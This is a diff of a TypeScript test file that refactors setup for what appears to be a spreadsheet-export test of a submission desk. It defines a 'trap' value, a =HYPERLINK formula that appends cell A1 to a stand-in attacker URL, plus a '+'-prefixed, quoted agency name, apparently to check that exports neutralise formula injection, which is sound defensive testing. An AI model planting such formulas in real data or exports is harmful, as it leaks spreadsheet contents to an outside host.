@@ -1,16 +1,14 @@
-import { deskOf, type DeskClient } from '../support/desk';
+import { type DeskClient, startDesk } from '../support/desk';
 import { locationOf } from '../support/location-of';
 import { submission } from '../support/submission';
-import { startWorld, type World } from '../support/world';
+import type { World } from '../support/world';
 import { unzip } from '../support/zip';
 
 let w: World;
 let desk: DeskClient;
 const trap = '=HYPERLINK("https://jahat.example?x="&A1,"klik")';
 beforeAll(async () => {
-  w = await startWorld();
-  desk = deskOf(w);
-  await desk.signIn();
+  ({ w, desk } = await startDesk());
   await w.submit(submission({ application: { type: 'aplikasi', name: trap, summary: 'x' } }));
   w.world.now = new Date(w.world.now.getTime() + 1000);
   await w.submit(submission({ agency: { ...submission().agency, name: '+62 Dinas, "Kutip"' } }));
